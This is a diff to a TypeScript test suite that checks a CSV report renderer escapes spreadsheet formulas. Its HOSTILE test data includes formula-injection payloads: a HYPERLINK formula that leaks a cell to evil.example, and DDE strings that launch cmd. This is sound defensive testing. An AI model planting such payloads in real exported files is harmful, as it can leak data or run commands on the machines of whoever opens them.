@@ -1,6 +1,7 @@
 import assert from "node:assert/strict";
 import { describe, test } from "node:test";
 import { parse } from "csv-parse/sync";
+import { stringify } from "csv-stringify/sync";
 import type { ChartBlock, Report } from "../report-model.js";
 import {
   checkShowsReport,
@@ -15,6 +16,8 @@ import {
 import type { ReportRenderer } from "../report-renderer.js";
 import { sampleReport } from "../sample-report.js";
 import {
+  CSV_FORMULA_ESCAPING,
+  csvCellText,
   csvRenderer,
   REPORT_CSV_COLUMNS,
   type ReportCsvRecord,
@@ -141,13 +144,43 @@ function parseBlock(draft: BlockDraft): ParsedBlock {
   }
 }
 
+/** Text a spreadsheet would run as a formula. */
+const FORMULA = /^[=+\-@\t\r]/;
+/** The text of a number as `String(n)` writes a negative one (the only number text FORMULA matches). */
+const NEGATIVE_NUMBER = /^-(?:\d+(?:\.\d+)?(?:e[+-]\d+)?|Infinity)$/;
+
 /**
- * The parse adapter: csv-parse reads the records; they are grouped by `section` and `block`, and
+ * Undoes the CSV's formula escaping, exactly as its `formula_escaping` record states it: one `'`
+ * is removed from a text field that starts with `'`s followed by `=`, `+`, `-`, `@`, TAB or CR.
+ * Fails on a field a spreadsheet would run (only a negative number's value may start with `-`),
+ * so the contract fails a renderer that does not escape.
+ */
+function unescapeFormulas(record: ReportCsvRecord): ReportCsvRecord {
+  const undo = (field: string, text: string): string => {
+    assert.ok(
+      !FORMULA.test(text) || (field === "value" && NEGATIVE_NUMBER.test(text)),
+      `unescaped formula in ${field}: ${JSON.stringify(text)}`,
+    );
+    return /^'+[=+\-@\t\r]/.test(text) ? text.slice(1) : text;
+  };
+  if (record.kind === "provenance" && record.column === "formula_escaping") {
+    assert.equal(record.value, CSV_FORMULA_ESCAPING, "formula escaping stated");
+  }
+  return {
+    ...record,
+    section: undo("section", record.section),
+    column: undo("column", record.column),
+    value: undo("value", record.value),
+  };
+}
+
+/**
+ * The parse adapter: csv-parse reads the records (formula escaping undone: {@link unescapeFormulas}); they are grouped by `section` and `block`, and
  * within a block by `row` (items by index, not by their order in the file); every record must
  * belong somewhere.
  */
 function parseCsvReport(bytes: Buffer): ParsedReportText {
-  const records = readRecords(bytes);
+  const records = readRecords(bytes).map(unescapeFormulas);
   const facts = new Map<string, string>();
   const filter: string[] = [];
   const sections: { id: string; title: string; blocks: BlockDraft[] }[] = [];
@@ -179,6 +212,7 @@ function parseCsvReport(bytes: Buffer): ParsedReportText {
     }
   }
   const fact = (name: string) => facts.get(name) ?? assert.fail(`provenance ${name} missing`);
+  assert.equal(fact("formula_escaping"), CSV_FORMULA_ESCAPING, "formula escaping stated");
   const verified = (text: string) => (text === "not checked" ? undefined : text === "true");
   return {
     provenance: {
@@ -254,6 +288,7 @@ describe("csvRenderer", () => {
         ["", "checkpoint.signature_verified"],
         ["", "checkpoint.store_verified"],
         ["", "checkpoint.note"],
+        ["", "formula_escaping"],
       ],
     );
     const value = (column: string) => provenance.find((r) => r.column === column)?.value;
@@ -356,6 +391,129 @@ describe("csvRenderer", () => {
       ],
     };
     await checkShowsReport(csvRenderer, parseCsvReport, report);
+  });
+
+  describe("formula injection: text a spreadsheet would run is prefixed with '", () => {
+    const HOSTILE = [
+      '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+      "+cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      "-2+3",
+      "\t=1+1 after a tab",
+      "\r=1+1 after a carriage return",
+    ];
+    /** A report whose event fields are hostile: table cells, a figure's label and a chart label. */
+    const hostileReport = (): Report => ({
+      ...sampleReport({ filter: ["=1+1"] }),
+      sections: [
+        {
+          id: "hostile",
+          title: "@Hostile",
+          blocks: [
+            {
+              kind: "table",
+              title: "Events",
+              columns: [
+                { key: "actor", label: "Actor" },
+                { key: "events", label: "Events" },
+              ],
+              rows: [
+                ...HOSTILE.map((actor, i) => ({ actor, events: i })),
+                { actor: "-5", events: -5 },
+                { actor: "plain text", events: 0 },
+                { actor: "a=b, 1+1, user-01, x@y", events: 1.5 },
+                { actor: "'quoted already", events: null },
+                { actor: "'=quoted formula", events: true },
+                { actor: "", events: -0.25 },
+              ],
+            },
+            { kind: "figures", title: "F", figures: [{ label: "=2*3", value: -5, unit: "-" }] },
+            { kind: "chart", title: "C", chart: "bar", unit: "events", points: [{ label: "+1", value: -1 }] },
+          ],
+        },
+      ],
+    });
+    const records = () => readRecords(Buffer.from(renderCsv(hostileReport())));
+    const cell = (row: number, column: string) =>
+      records().find((r) => r.kind === "table" && r.row === String(row) && r.column === column)?.value;
+
+    test("a hostile cell, read with csv-parse, starts with ' and then the text as written", () => {
+      HOSTILE.forEach((text, i) => {
+        assert.equal(cell(i, "actor"), `'${text}`, text);
+      });
+      const all = records();
+      const value = (kind: string, column: string) => all.find((r) => r.kind === kind && r.column === column);
+      assert.equal(all.find((r) => r.kind === "section")?.value, "'@Hostile");
+      assert.equal(value("figures", "'=2*3")?.value, "-5", "a figure's label is text; its value a number");
+      assert.equal(all.find((r) => r.kind === "figures" && r.row === "unit")?.value, "'-");
+      assert.equal(value("chart", "'+1")?.value, "-1", "a chart label is text; its value a number");
+      assert.equal(value("provenance", "filter")?.value, "'=1+1");
+    });
+
+    test('a number like -5 stays a number cell; the text "-5" is prefixed', () => {
+      const at = HOSTILE.length;
+      assert.equal(cell(at, "events"), "-5");
+      assert.equal(cell(at, "actor"), "'-5");
+      assert.equal(cell(at + 5, "events"), "-0.25");
+      assert.equal(csvCellText(-5), "-5");
+      assert.equal(csvCellText("-5"), "'-5");
+      // In the rich sample: a negative figure, and text cells that look like formulas.
+      const sample = readRecords(Buffer.from(renderCsv(sampleReport())));
+      assert.equal(sample.find((r) => r.kind === "figures" && r.column === "Clock drift")?.value, "-3");
+      const notes = sample.filter((r) => r.kind === "table" && r.column === "note").map((r) => r.value);
+      assert.ok(notes.includes("'=SUM(A1:A9)"));
+      assert.ok(notes.includes("'-5 looks negative"));
+    });
+
+    test("an ordinary value is untouched", () => {
+      const at = HOSTILE.length;
+      assert.equal(cell(at + 1, "actor"), "plain text");
+      assert.equal(cell(at + 1, "events"), "0");
+      assert.equal(cell(at + 2, "actor"), "a=b, 1+1, user-01, x@y");
+      assert.equal(cell(at + 2, "events"), "1.5");
+      assert.equal(cell(at + 3, "actor"), "'quoted already", "a ' before ordinary text is not doubled");
+      assert.equal(cell(at + 3, "events"), "");
+      assert.equal(cell(at + 4, "events"), "true");
+      assert.equal(cell(at + 5, "actor"), "");
+      assert.equal(csvCellText("tab\tinside"), "tab\tinside");
+    });
+
+    test("a ' before a formula gets one more, so that dropping one ' gives the text back", async () => {
+      assert.equal(cell(HOSTILE.length + 4, "actor"), "''=quoted formula");
+      assert.equal(csvCellText("''@x"), "'''@x");
+      await checkShowsReport(csvRenderer, parseCsvReport, hostileReport());
+    });
+
+    test("the provenance states the escaping", () => {
+      const stated = records().find((r) => r.kind === "provenance" && r.column === "formula_escaping");
+      assert.equal(
+        stated?.value,
+        "text cells starting with = + - @ TAB CR (after any ') are prefixed with '",
+      );
+    });
+
+    test("the contract fails a renderer that does not escape, or does not say so", async () => {
+      const unescaped: ReportRenderer = {
+        ...csvRenderer,
+        render: async (report, out) => {
+          const raw = reportCsvRecords(report).map((r) => ({ ...r, value: r.value.replace(/^'/, "") }));
+          out.write(
+            stringify(raw, { header: true, columns: [...REPORT_CSV_COLUMNS], quoted_match: /[\r\n]/ }),
+          );
+        },
+      };
+      await assert.rejects(checkShowsReport(unescaped, parseCsvReport, sampleReport()), /unescaped formula/);
+      const unstated: ReportRenderer = {
+        ...csvRenderer,
+        render: async (report, out) => {
+          out.write(renderCsv(report).replace(/^provenance,,provenance,,formula_escaping,.*\r\n/m, ""));
+        },
+      };
+      await assert.rejects(
+        checkShowsReport(unstated, parseCsvReport, sampleReport()),
+        /provenance formula_escaping missing/,
+      );
+    });
   });
 
   test("renders the edge cases as block facts without data records", async () => {
